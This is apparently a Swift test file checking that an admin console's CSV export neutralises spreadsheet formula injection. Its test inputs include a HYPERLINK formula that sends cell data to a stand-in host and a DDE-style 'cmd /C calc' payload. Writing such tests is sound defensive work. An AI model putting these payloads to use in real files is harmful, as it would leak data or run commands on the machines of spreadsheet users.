@testable import AdminConsole
import Foundation
import Marketplace
import RentlineTesting
import Testing

/// CSV opened in a spreadsheet runs no formula: text starting as one gets an apostrophe, and numbers stay numbers.
struct CSVInjectionTests {
    func csv(_ columns: [String], _ row: [AdminOutput.Cell]) -> String {
        CSVText.render(.table("rows", columns, [row]), cells: CellText(timeZone: TestServer.timeZone))
    }

    @Test(arguments: [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\u{FFFD}=1+1"),
        (#"=HYPERLINK("http://x.example/?"&A1,"Click")"#, #""'=HYPERLINK(""http://x.example/?""&A1,""Click"")""#),
        ("a = b", "a = b"),
    ])
    func textThatStartsAFormulaStaysText(title: String, cell: String) {
        #expect(csv(["title"], [.text(title)]) == "title\r\n\(cell)\r\n")
    }

    @Test func numbersMoneyAndNamesAreLeftAsTheyAre() {
        #expect(csv(["-name", "balance", "change", "rating"], [.money(cents: -1250), .number(-3), .decimal(-1.5), .flag(true)])
            == "-name,balance,change,rating\r\n-12.50,-3,-1.5,yes\r\n")
        let record = AdminOutput(sections: [.record(AdminOutput.Record(name: "user", fields: [("=field", .text("ok"))]))])
        #expect(CSVText.render(record, cells: CellText(timeZone: TestServer.timeZone)) == "field,value\r\n=field,ok\r\n")
    }

    @Test func theConsoleListsAFormulaTitleAndReasonAsText() async throws {
        try await MarketFixture.with { market in
            let ana = try await market.user("ana")
            let bob = try await market.user("bob")
            try await market.list(#"=HYPERLINK("http://x.example/?"&A1,"Click")"#, by: ana, cents: 500, northKm: 1)
            _ = try await Reports(database: market.database, clock: market.clock).file(by: bob, about: .listing(1), reason: "@SUM(1+1)*cmd|' /C calc'!A0")
            let context = AdminContext(database: market.database, actor: "mod", clock: market.clock, timeZone: TestServer.timeZone)
            var shell = AdminShell(context: context, format: .csv)
            #expect(shell.run("listings").output == """
                id,title,owner,category,price,per,status,reports\r
                1,"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",ana,tools,5.00,day,active,1\r

                """)
            #expect(shell.run("reports").output.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"))
            var json = AdminShell(context: context, format: .json)
            #expect(json.run("listings").output.contains(#""title":"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")""#))
        }
    }
}
